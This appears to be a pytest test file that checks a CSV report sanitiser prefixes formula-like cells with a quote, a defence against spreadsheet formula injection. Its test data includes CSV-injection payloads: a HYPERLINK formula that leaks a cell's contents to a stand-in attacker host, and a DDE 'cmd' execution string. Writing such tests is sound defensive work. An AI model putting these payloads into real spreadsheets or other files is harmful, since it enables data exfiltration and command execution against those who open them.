"""The CSV acceptance report opens in a spreadsheet as text: a cell a vendor's name (or any
other value) starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed
with a single quote (OWASP's CSV-injection advice), so it is never run as a formula."""

from __future__ import annotations

import csv
import hashlib
import io
import uuid

import pytest

from data_plane.domain.intake import DocStatus, Reason
from data_plane.domain.records import NewDocument
from data_plane.services.reports import ReportService, csv_cell
from tests.doubles.persistence import InMemoryTenantDatabase

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click").pdf', "+1+cmd|' /C calc'!A0.txt",
            "-2+3.pdf", "@SUM(1+1)*cmd.pdf", "\t=1+1.pdf", "\r=1+1.pdf"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["report.pdf", "", "a=b.pdf", "Q1 - Q2.pdf", "'quoted.pdf",
                                   None, 3, -3, 0.5])
def test_everything_else_is_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def _report_rows(names: list[str]) -> list[dict[str, str]]:
    db = InMemoryTenantDatabase()
    docs = []
    for i, name in enumerate(names):
        sha = hashlib.sha256(name.encode()).hexdigest()
        docs.append(NewDocument(
            document_id=uuid.uuid4(), ordinal=i, name=name, sha256=sha, declared_sha256=sha,
            size=1, declared_type=None, mime_type=None, metadata={},
            status=DocStatus.REJECTED, reason=Reason.MIME_NOT_ALLOWED, stored=False,
            duplicate_of=None, raw_key=None, detail="-the type is not allowed"))
    batch_id = uuid.uuid4()
    db.record_batch(batch_id=batch_id, client_ref="r", idempotency_key=None, key_id="k",
                    documents=docs)
    text = ReportService(db, embedding_model={}).report_csv(batch_id)
    return list(csv.DictReader(io.StringIO(text)))


def test_the_report_neutralises_every_formula_a_vendor_sent_as_a_name() -> None:
    rows = _report_rows(FORMULAS)
    assert [r["name"] for r in rows] == ["'" + n for n in FORMULAS]
    assert {r["detail"] for r in rows} == {"'-the type is not allowed"}
    # no cell of the file starts a formula
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for v in r.values())
